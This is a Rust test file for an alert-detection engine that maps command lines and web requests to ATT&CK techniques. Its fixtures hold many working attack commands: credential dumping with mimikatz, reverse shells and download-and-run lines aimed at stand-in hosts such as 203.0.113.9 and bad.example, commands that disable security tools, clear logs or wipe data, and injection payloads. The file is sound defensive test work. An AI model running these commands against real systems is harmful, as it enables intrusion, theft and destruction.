use std::collections::BTreeSet;

use nightshift_alert::{Alert, Detail, DetailKind};

use super::*;
use crate::playbook::catalogue;
use crate::playbook::tests::alerts::sample;

mod fields;

/// Returns an alert with only this command.
fn command(line: &str) -> Alert {
    with(&[(DetailKind::CommandLine, line)])
}

fn with(details: &[(DetailKind, &str)]) -> Alert {
    let mut alert = sample("guardduty-eventbridge-dns");
    alert.indicators.clear();
    alert.action = None;
    alert.count = 1;
    alert.details = details
        .iter()
        .map(|(kind, value)| Detail {
            kind: *kind,
            value: (*value).to_owned(),
            about: None,
        })
        .collect();
    alert
}

fn techniques(alert: &Alert) -> Vec<&'static str> {
    let all = matched(alert).into_iter();
    all.filter_map(|one| one.technique.split(' ').next())
        .collect()
}

#[test]
fn every_row_can_be_read_and_names_its_source() {
    for (file, text) in FILES {
        let read: Result<PatternFile, _> = toml::from_str(text);
        assert!(read.is_ok(), "{file}: {:?}", read.err());
    }
    let known: BTreeSet<&str> = catalogue::action_ids().collect();
    let mut ids = BTreeSet::new();
    for pattern in all_patterns() {
        let id = pattern.id.as_str();
        assert!(ids.insert(id), "{id} stands twice");
        assert_eq!(pattern.invalid_expressions(), Vec::<String>::new(), "{id}");
        assert!(pattern.source.starts_with("https://"), "{id}");
        assert!(
            !pattern.when.is_empty() && !pattern.says.ends_with('.'),
            "{id}"
        );
        let (technique, name) = pattern.technique.split_once(' ').unwrap();
        let digits = technique.strip_prefix('T').unwrap();
        assert!(
            digits.chars().all(|c| c.is_ascii_digit() || c == '.'),
            "{id}"
        );
        assert!(digits.len() >= 4 && !name.is_empty(), "{id}");
        assert!(!pattern.actions.is_empty(), "{id}");
        for action in &pattern.actions {
            assert!(known.contains(action.as_str()), "{id}: {action}");
        }
    }
    assert!(ids.len() >= 100, "{}", ids.len());
}

/// Variants of the techniques with other tools and spellings. Each command shows its technique.
const ATTACKS: &[(&str, &str)] = &[
    (
        "T1003.001",
        "procdump64.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp",
    ),
    (
        "T1003.001",
        "rundll32 C:\\windows\\system32\\comsvcs.dll #+000024 712 \\Windows\\Temp\\o.dmp full",
    ),
    (
        "T1003.001",
        "powershell -c \"rundll32 comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\a.bin full\"",
    ),
    (
        "T1003.001",
        "nanodump.x64.exe --write C:\\Windows\\Temp\\report.docx",
    ),
    (
        "T1003.001",
        "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
    ),
    ("T1003.001", "C:\\Tools\\SQLDumper.exe 712 0 0x01100 lsass"),
    ("T1003.002", "reg.exe save hklm\\security c:\\x\\sec.save"),
    (
        "T1003.002",
        "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\t\\",
    ),
    (
        "T1003.003",
        "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Windows\\NTDS\\ntds.dit c:\\t",
    ),
    (
        "T1003.003",
        "ntdsutil.exe \"activate instance ntds\" ifm \"create full C:\\t\" quit quit",
    ),
    (
        "T1003.006",
        "mimikatz lsadump::dcsync /domain:corp.local /user:krbtgt",
    ),
    (
        "T1003.006",
        "python3 secretsdump.py corp/adm@10.0.0.5 -just-dc-ntlm",
    ),
    ("T1003.008", "cat /etc/shadow"),
    ("T1558.003", "Rubeus.exe kerberoast /outfile:h.txt"),
    ("T1558.003", "GetUserSPNs.py corp.local/user -request"),
    (
        "T1558.003",
        "powershell Invoke-Kerberoast -OutputFormat Hashcat",
    ),
    ("T1558.004", "Rubeus.exe asreproast /format:hashcat"),
    (
        "T1558.001",
        "mimikatz kerberos::golden /user:x /domain:corp /sid:S-1 /krbtgt:a /ptt",
    ),
    (
        "T1550.002",
        "mimikatz sekurlsa::pth /user:adm /domain:corp /ntlm:8846f7eaee8fb117ad06bdd830b7586c",
    ),
    (
        "T1550.002",
        "wmiexec.py -hashes :8846f7eaee8fb117ad06bdd830b7586c corp/adm@10.0.0.9",
    ),
    (
        "T1550.002",
        "evil-winrm -i 10.0.0.9 -u adm -H 8846f7eaee8fb117ad06bdd830b7586c",
    ),
    ("T1555", "lazagne.exe all"),
    ("T1552.001", "cat /root/.aws/credentials"),
    (
        "T1552.005",
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web",
    ),
    (
        "T1059.001",
        "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
    ),
    ("T1059.001", "pwsh -c \"irm http://203.0.113.9/x | iex\""),
    (
        "T1059.001",
        "p^owershell -w hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
    ),
    (
        "T1059.001",
        "powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',443);$s=$c.GetStream()\"",
    ),
    ("T1059.004", "nc -e /bin/sh 203.0.113.9 4444"),
    (
        "T1059.004",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 9001 >/tmp/f",
    ),
    (
        "T1059.004",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",1));pty.spawn(\"sh\")'",
    ),
    ("T1059.004", "socat TCP:203.0.113.9:443 EXEC:/bin/bash"),
    (
        "T1027",
        "cmd /V /c set a=wh&&set b=oami&&call %a:~0,2%%b:~0,4%",
    ),
    ("T1027", "powershell -c \"[char]105+[char]101+[char]120\""),
    ("T1140", "echo Y3VybCBodHRwOi8v | base64 -d | bash"),
    ("T1140", "certutil -decode a.b64 a.exe"),
    ("T1562.001", "sc stop WinDefend"),
    ("T1562.001", "sc.exe config Sense start= disabled"),
    ("T1562.001", "systemctl stop falcon-sensor"),
    ("T1562.001", "systemctl disable --now auditd"),
    ("T1562.001", "taskkill /F /IM MsSense.exe"),
    ("T1562.001", "pkill -9 -f wazuh-agent"),
    ("T1562.001", "setenforce 0"),
    (
        "T1562.001",
        "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
    ),
    (
        "T1562.001",
        "powershell Add-MpPreference -ExclusionPath C:\\ProgramData",
    ),
    (
        "T1562.001",
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')",
    ),
    ("T1562.002", "auditpol /clear /y"),
    ("T1562.004", "netsh advfirewall set allprofiles state off"),
    ("T1562.004", "iptables -F"),
    ("T1070.001", "powershell Clear-EventLog -LogName Security"),
    (
        "T1070.001",
        "for /F %a in ('wevtutil el') do wevtutil clear-log %a",
    ),
    ("T1070.002", "rm -rf /var/log/auth.log"),
    ("T1070.002", "cat /dev/null > /var/log/wtmp"),
    ("T1070.003", "unset HISTFILE; history -c"),
    ("T1490", "wmic shadowcopy delete"),
    ("T1490", "bcdedit.exe /set {default} recoveryenabled No"),
    ("T1490", "wbadmin delete catalog -quiet"),
    (
        "T1490",
        "powershell \"Get-WmiObject Win32_ShadowCopy | ForEach-Object {$_.Delete();}\"",
    ),
    (
        "T1486",
        "find /srv -type f -exec openssl enc -aes-256-cbc -salt -in {} -out {}.x \\;",
    ),
    ("T1485", "rm -rf --no-preserve-root /"),
    ("T1489", "net stop MSSQLSERVER /y"),
    (
        "T1496",
        "./kworker -o stratum+tcp://pool.bad.example:3333 -u 4x",
    ),
    (
        "T1053.003",
        "echo '* * * * * root /tmp/.x/run' >> /etc/crontab",
    ),
    (
        "T1053.005",
        "schtasks /create /tn x /tr \"powershell -enc AAAABBBBCCCCDDDD\" /sc onlogon",
    ),
    (
        "T1053.005",
        "Register-ScheduledTask -TaskName u -Action (New-ScheduledTaskAction -Execute mshta -Argument http://203.0.113.9/a)",
    ),
    (
        "T1543.003",
        "sc \\\\srv-2 create svc binPath= \"C:\\Windows\\Temp\\a.exe\"",
    ),
    (
        "T1543.002",
        "cp /tmp/.x/a.service /etc/systemd/system/a.service && systemctl enable a.service",
    ),
    (
        "T1547.001",
        "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\Users\\Public\\a.exe",
    ),
    (
        "T1546.008",
        "copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe",
    ),
    (
        "T1546.003",
        "powershell Set-WmiInstance -Class CommandLineEventConsumer -Arguments $a",
    ),
    (
        "T1098.004",
        "echo ssh-ed25519 AAAA x@y >> /root/.ssh/authorized_keys",
    ),
    ("T1574.006", "echo /usr/lib/libx.so > /etc/ld.so.preload"),
    ("T1574.006", "LD_PRELOAD=/tmp/x.so /usr/sbin/sshd"),
    ("T1136.001", "New-LocalUser -Name help -Password $p"),
    ("T1136.001", "useradd -o -u 0 -g 0 -M sysd"),
    ("T1136.002", "net user helper P4ss /add /domain"),
    ("T1098.007", "net localgroup administrators helper /add"),
    ("T1098.007", "usermod -aG sudo helper"),
    ("T1548.001", "chmod u+s /bin/bash"),
    (
        "T1548.003",
        "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    ),
    ("T1218.005", "mshta.exe https://bad.example/a.hta"),
    (
        "T1218.010",
        "regsvr32 /s /n /u /i:http://bad.example/a.sct scrobj.dll",
    ),
    (
        "T1218.011",
        "rundll32 C:\\Users\\a\\AppData\\Local\\Temp\\x.dll,Start",
    ),
    ("T1218.007", "msiexec /q /i https://bad.example/a.msi"),
    (
        "T1218",
        "wmic process get brief /format:\"https://bad.example/a.xsl\"",
    ),
    (
        "T1105",
        "bitsadmin /transfer j /download http://bad.example/a C:\\ProgramData\\a.exe",
    ),
    ("T1105", "curl -s http://bad.example/x.sh | sh"),
    (
        "T1105",
        "cd /tmp; wget http://203.0.113.9/m; chmod 777 m; ./m",
    ),
    ("T1105", "bash <(curl -s http://bad.example/i)"),
    (
        "T1105",
        "powershell iwr http://bad.example/a.exe -OutFile C:\\Users\\Public\\a.exe",
    ),
    ("T1021.002", "net use \\\\srv-2\\ADMIN$ /user:corp\\adm"),
    ("T1021.002", "crackmapexec smb 10.0.0.0/24 -u adm -p x"),
    (
        "T1047",
        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc -ComputerName srv-2",
    ),
    ("T1021.006", "winrs -r:srv-2 cmd"),
    ("T1021.006", "Enter-PSSession -ComputerName srv-2"),
    (
        "T1021.003",
        "$o=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','10.0.0.9'))",
    ),
    ("T1572", "ngrok tcp 3389"),
    ("T1572", "ssh -N -R 2222:localhost:22 u@203.0.113.9"),
    (
        "T1090.001",
        "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.9",
    ),
    ("T1087.002", "SharpHound.exe -c All"),
    ("T1482", "nltest /domain_trusts /all_trusts"),
    ("T1611", "nsenter -t 1 -m -u -i -n sh"),
    ("T1567.002", "rclone copy D:\\shares mega:x --transfers 20"),
    (
        "T1567",
        "curl --upload-file /tmp/db.zip https://transfer.sh/db.zip",
    ),
    ("T1560.001", "rar.exe a -hpS3cret c:\\t\\o.rar D:\\fin"),
    ("T1071.004", "iodine -f -P x t.bad.example"),
];

#[test]
fn other_tools_show_the_same_technique() {
    let missed: Vec<String> = ATTACKS
        .iter()
        .filter(|(technique, line)| !techniques(&command(line)).contains(technique))
        .map(|(technique, line)| format!("{technique} {line}: {:?}", techniques(&command(line))))
        .collect();
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

/// Commands that administrators, builds and programs run every day.
const ORDINARY: &[&str] = &[
    "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
    "powershell -Command Get-Service | Where Status -eq Running",
    "powershell Set-MpPreference -DisableRealtimeMonitoring $false",
    "powershell Get-WinEvent -LogName Security -MaxEvents 10",
    "powershell Update-MpSignature",
    "rundll32.exe shell32.dll,Control_RunDLL",
    "rundll32.exe printui.dll,PrintUIEntry /in /n\\\\print-01\\hp",
    "regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
    "mshta.exe C:\\Program Files\\Vendor\\setup.hta",
    "msiexec.exe /i C:\\Install\\vendor.msi /qn",
    "certutil.exe -verify -urlfetch server.cer",
    "bitsadmin /list /allusers",
    "vssadmin list shadows",
    "wbadmin get versions",
    "bcdedit /enum all",
    "wevtutil gl Security",
    "auditpol /get /category:*",
    "sc query WinDefend",
    "sc.exe qc Sysmon64",
    "net start WinDefend",
    "net user",
    "net localgroup administrators",
    "net use Z: \\\\nas\\team",
    "net view \\\\nas",
    "schtasks /query /fo list",
    "schtasks /run /tn \"Vendor Update\"",
    "schtasks /create /tn GoogleUpdate /tr \"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua\" /sc daily",
    "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "reg export HKCU\\Software\\Vendor c:\\backup\\vendor.reg",
    "wmic cpu get name",
    "winrm quickconfig",
    "nltest /sc_query:corp.example",
    "tasklist /v",
    "procdump -ma w3wp.exe C:\\dumps\\iis.dmp",
    "systemctl restart nginx",
    "systemctl restart falcon-sensor",
    "systemctl status auditd",
    "systemctl stop redis-sentinel",
    "service ssh reload",
    "iptables -L -n -v",
    "ufw status",
    "crontab -l",
    "cat /etc/passwd",
    "cat /var/log/auth.log",
    "tail -f /var/log/syslog",
    "rm /var/log/nginx/access.log.12.gz",
    "journalctl -u nginx --since today",
    "logrotate /etc/logrotate.conf",
    "find /var/www -name '*.php' -mtime -1",
    "chmod +x /opt/app/bin/start",
    "chmod 644 /etc/nginx/nginx.conf",
    "useradd -m -s /bin/bash deploy",
    "ssh-keygen -t ed25519 -f /home/deploy/.ssh/id_ed25519",
    "ssh deploy@bastion.corp.example",
    "scp build.tar.gz deploy@web-02:/srv/releases/",
    "rsync -e ssh -r host1:/srv/data /srv/data",
    "curl -fsS https://status.corp.example/health",
    "curl -o /opt/app/app.tar.gz https://releases.corp.example/app.tar.gz",
    "wget https://archive.ubuntu.com/ubuntu/dists/noble/Release",
    "nc -zv db-01 5432",
    "tar czf /backup/etc.tar.gz /etc",
    "7z a backup.7z D:\\projects",
    "rm -rf /tmp/build-1234",
    "dd if=/dev/zero of=/swapfile bs=1M count=2048",
    "docker run --rm -v /srv/data:/data backup:1",
    "kubectl get pods -A",
    "python3 manage.py migrate",
    "java -jar /opt/app/app.jar --spring.profiles.active=prod",
    "git pull --rebase origin main",
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
    "C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe /background",
    "cmd.exe /c ver",
    "ipconfig /all",
    "whoami",
];

/// Returns the strongest match of the alert: none, a hint, weak or strong.
fn strength(alert: &Alert) -> &'static str {
    match matched(alert).first() {
        None => "none",
        Some(one) if one.strong => "strong",
        Some(one) if one.hint => "hint",
        Some(_) => "weak",
    }
}

/// The technique, how strongly the first command shows it, and the strength of a harmless second one.
const GRADED: &[(&str, &str, &str, &str, &str)] = &[
    (
        "T1003.002",
        "weak",
        "reg save hklm\\system C:\\temp\\sys.hiv",
        "none",
        "reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\nginx c:\\b.reg",
    ),
    (
        "T1555.005",
        "weak",
        "cmd /c for /r C:\\ %f in (*.kdbx) do copy %f \\\\203.0.113.9\\x",
        "none",
        "KeePass.exe C:\\Users\\dana\\vault.kdbx",
    ),
    (
        "T1562.001",
        "strong",
        "taskkill /f /im MsMpEng.exe",
        "none",
        "tasklist /fi \"imagename eq MsMpEng.exe\"",
    ),
    (
        "T1112",
        "strong",
        "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\" /v UseLogonCredential /t REG_DWORD /d 1",
        "none",
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 0",
    ),
    (
        "T1053.002",
        "weak",
        "echo '/tmp/.x' | at now + 1 minute",
        "none",
        "echo /usr/local/bin/report | at 22:00",
    ),
    (
        "T1543.002",
        "weak",
        "tee /etc/systemd/system/upd.service",
        "none",
        "systemctl cat nginx.service",
    ),
    (
        "T1204.002",
        "strong",
        "wscript.exe C:\\Users\\dana\\Downloads\\Invoice.pdf.js",
        "none",
        "cscript.exe //nologo C:\\Scripts\\inventory.vbs",
    ),
    (
        "T1204.002",
        "weak",
        "wscript.exe C:\\Users\\dana\\Downloads\\setup.js",
        "none",
        "node C:\\Users\\dana\\Downloads\\setup.js",
    ),
    (
        "T1098.006",
        "weak",
        "kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default",
        "none",
        "kubectl create clusterrolebinding x --clusterrole=view --user=dana",
    ),
    (
        "T1098.001",
        "weak",
        "aws iam create-access-key --user-name admin",
        "none",
        "aws iam list-access-keys --user-name admin",
    ),
    (
        "T1562.008",
        "strong",
        "aws cloudtrail stop-logging --name org",
        "none",
        "aws cloudtrail get-trail-status --name org",
    ),
    (
        "T1486",
        "weak",
        "openssl enc -aes-256-cbc -in /data/a -out /data/a.locked -k x",
        "none",
        "openssl enc -aes-256-cbc -in backup.tar -out backup.tar.enc",
    ),
    (
        "T1110.001",
        "strong",
        "hydra -l root -P rockyou.txt ssh://10.0.0.8",
        "none",
        "python3 train.py hydra.run.dir=/srv/runs",
    ),
    (
        "T1056.002",
        "strong",
        "osascript -e 'display dialog \"Enter password\" default answer \"\" with hidden answer'",
        "none",
        "osascript -e 'display dialog \"Backup done\"'",
    ),
    (
        "T1543.001",
        "weak",
        "launchctl load /Users/dana/Library/LaunchAgents/com.x.plist",
        "none",
        "launchctl load /Users/dana/Library/LaunchAgents/homebrew.mxcl.redis.plist",
    ),
    (
        "T1048.003",
        "strong",
        "powershell -c Compress-Archive C:\\Finance C:\\Users\\Public\\f.zip; Invoke-RestMethod -Method Post -InFile C:\\Users\\Public\\f.zip http://203.0.113.9/u",
        "none",
        "powershell -c Compress-Archive C:\\b C:\\b.zip; Invoke-RestMethod -Method Post -InFile C:\\b.zip http://10.0.0.9/u",
    ),
    (
        "T1105",
        "weak",
        "curl -o C:\\Users\\Public\\a.exe http://203.0.113.9/a.exe",
        "none",
        "curl -o C:\\build\\a.exe https://releases.corp.example/a.exe",
    ),
    (
        "T1059.004",
        "strong",
        "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
        "none",
        "bash -c 'exec 3<>/dev/tcp/db-1/5432 && echo open'",
    ),
    (
        "T1059.004",
        "strong",
        "php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        "none",
        "php -r 'var_dump(fsockopen(\"db-1\", 5432));'",
    ),
    (
        "T1059.004",
        "strong",
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
        "none",
        "python3 -c 'import socket;print(socket.gethostname())'",
    ),
    (
        "T1059.004",
        "weak",
        "cat /srv/a > /dev/tcp/203.0.113.9/99",
        "none",
        "cat /srv/a > /dev/tcp/10.0.0.9/99",
    ),
    (
        "T1218.011",
        "weak",
        "rundll32.exe davclnt.dll,DavSetCookie 203.0.113.9@80 http://203.0.113.9/a",
        "hint",
        "rundll32.exe C:\\Windows\\System32\\davclnt.dll,DavSetCookie fileserver http://fileserver/share",
    ),
    (
        "T1098.007",
        "weak",
        "usermod -aG sudo dana",
        "hint",
        "usermod -aG docker dana",
    ),
    (
        "T1021.002",
        "weak",
        "psexec \\\\srv-3 -s cmd.exe",
        "hint",
        "psexec \\\\srv-3 ipconfig",
    ),
    (
        "T1567.002",
        "weak",
        "rclone.exe copy C:\\Finance mega:out --transfers 16",
        "hint",
        "rclone sync /data s3:corp-backup --config /etc/rclone.conf",
    ),
    (
        "T1560.001",
        "weak",
        "rar.exe a -hpS3cret c:\\t\\o.rar D:\\fin",
        "hint",
        "7z.exe a -pS3cret C:\\backup\\x.7z C:\\data",
    ),
    (
        "T1572",
        "weak",
        "socat TCP-LISTEN:8080,fork TCP:203.0.113.9:443",
        "hint",
        "socat TCP-LISTEN:8080,fork TCP:web-1:80",
    ),
    (
        "T1105",
        "weak",
        "curl https://bad.example/sh.rustup.rs | sh",
        "hint",
        "sh -c 'curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs | sh'",
    ),
    (
        "T1105",
        "weak",
        "curl https://sh.rustup.rs.bad.example/i | sh",
        "hint",
        "bash -c 'curl -sSL https://install.python-poetry.org | python3 -'",
    ),
    (
        "T1059.001",
        "weak",
        "powershell iex ((New-Object Net.WebClient).DownloadString('https://bad.example/install.ps1'))",
        "none",
        "powershell Get-Help iex",
    ),
    (
        "T1105",
        "weak",
        "curl https://sh.rustup.rs | sh; curl https://bad.example/i | sh",
        "hint",
        "powershell.exe iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    ),
];

#[test]
fn attack_is_graded_apart_from_its_twin() {
    let mut faults = Vec::new();
    for (technique, expected, attack, twin_expected, twin) in GRADED {
        let (attack, twin) = (command(attack), command(twin));
        let graded = (strength(&attack), strength(&twin));
        if graded != (*expected, *twin_expected) || !techniques(&attack).contains(technique) {
            let values = attack
                .details
                .iter()
                .chain(&twin.details)
                .map(|one| &one.value);
            faults.push(format!(
                "{graded:?} {:?} {:?}",
                techniques(&attack),
                values.collect::<Vec<_>>()
            ));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn word_that_a_reader_is_given_is_no_act() {
    for line in [
        "notepad.exe C:\\docs\\mimikatz-detection.txt",
        "chrome.exe https://attack.mitre.org/software/S0002/ mimikatz",
        "git clone https://github.com/gentilkiwi/mimikatz.git",
        "grep -ri 'vssadmin delete shadows' ./sigma",
        "grep -r xmrig /etc",
        "sudo rg 'sekurlsa::' /srv/rules | less",
        "bash -c \"grep -ri 'wevtutil cl Security' ./sigma\"",
        "find . -name '*.yml' | xargs grep xmrig",
        "curl -s https://attack.mitre.org/software/S0002/mimikatz",
        "vim /srv/rules/secretsdump-ntds.yml",
    ] {
        assert_eq!(strength(&command(line)), "none", "{line}");
    }
    for (line, process) in [
        ("-ri 'vssadmin delete shadows' ./sigma", "/usr/bin/grep"),
        ("grep -r xmrig /etc", "bash"),
    ] {
        let mut apart = command(line);
        apart.indicators.push(nightshift_alert::Indicator::new(
            nightshift_alert::IndicatorKind::Process,
            process,
            nightshift_alert::IndicatorRole::Related,
        ));
        assert_eq!(strength(&apart), "none", "{process} {line}");
    }
    for line in [
        "grep x y; mimikatz.exe sekurlsa::logonpasswords",
        "cat /tmp/x.so > /etc/ld.so.preload",
        "/tmp/grep sekurlsa::logonpasswords",
        "cat a.b64 | base64 -d | sh",
        "cmd /c type C:\\Windows\\NTDS\\ntds.dit > c:\\t\\n",
        "cat /proc/1/root/etc/shadow",
    ] {
        assert_eq!(strength(&command(line)), "strong", "{line}");
    }
}

#[test]
fn ordinary_commands_show_no_technique() {
    let hit: Vec<String> = ORDINARY
        .iter()
        .filter(|line| !techniques(&command(line)).is_empty())
        .map(|line| format!("{line}: {:?}", techniques(&command(line))))
        .collect();
    assert!(hit.is_empty(), "{}", hit.join("\n"));
}

#[test]
fn parent_makes_a_command_a_web_shell() {
    use DetailKind::{CommandLine, ParentProcess};
    for parent in [
        "/usr/sbin/php-fpm8.2",
        "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "nginx",
        "/usr/sbin/apache2",
    ] {
        for line in [
            "sh -c 'id; uname -a'",
            "cmd.exe /c whoami /priv",
            "sh -c 'cat /etc/passwd'",
        ] {
            let alert = with(&[(CommandLine, line), (ParentProcess, parent)]);
            assert_eq!(strength(&alert), "strong", "{parent}");
            assert!(techniques(&alert).contains(&"T1505.003"), "{parent}");
        }
        let lone = with(&[(CommandLine, "sh -c 'id -u'"), (ParentProcess, parent)]);
        assert_eq!(strength(&lone), "hint", "{parent}");
    }
    let mail = with(&[
        (CommandLine, "sh -c '/usr/sbin/sendmail -t -i'"),
        (ParentProcess, "php-fpm"),
    ]);
    assert_eq!(techniques(&mail), Vec::<&str>::new());
    let office = with(&[
        (CommandLine, "cmd.exe /c start calc"),
        (ParentProcess, "WINWORD.EXE"),
    ]);
    assert!(techniques(&office).contains(&"T1204.002"));
}

#[test]
fn request_shows_injection_however_it_is_written() {
    for request in [
        "GET /a?id=1%20UNION%20SELECT%201,2,3--",
        "GET /a?id=1/**/union/**/all/**/select/**/1",
        "POST /login user=admin'%20OR%20'1'='1",
        "GET /a?id=1;WAITFOR DELAY '0:0:5'--",
        "GET /a?id=1%2527%20OR%201=1%20--",
        "GET /a?x=${jndi:ldap://203.0.113.9/a}",
        "GET /a?f=../../../../etc/passwd",
    ] {
        let alert = with(&[(DetailKind::HttpRequest, request)]);
        assert!(techniques(&alert).contains(&"T1190"), "{request}");
    }
    for request in [
        "GET /search?q=union+select+committee",
        "GET /a?id=17&sort=desc",
        "GET /books?title=Romeo%20and%20Juliet",
        "GET /static/app.js?v=1.2.3",
    ] {
        let alert = with(&[(DetailKind::HttpRequest, request)]);
        assert_eq!(techniques(&alert), Vec::<&str>::new(), "{request}");
    }
}

#[test]
fn encoded_command_is_judged_by_what_it_carries() {
    let harmless = with(&[
        (
            DetailKind::CommandLine,
            "powershell -NoProfile -EncodedCommand [redacted:secret]",
        ),
        (
            DetailKind::DecodedCommand,
            "Get-Service | Select Name, Status",
        ),
    ]);
    assert_eq!(techniques(&harmless), Vec::<&str>::new());
    let unknown = with(&[(
        DetailKind::CommandLine,
        "powershell -EncodedCommand [redacted:secret]",
    )]);
    assert_eq!(techniques(&unknown), ["T1059.001"]);
}
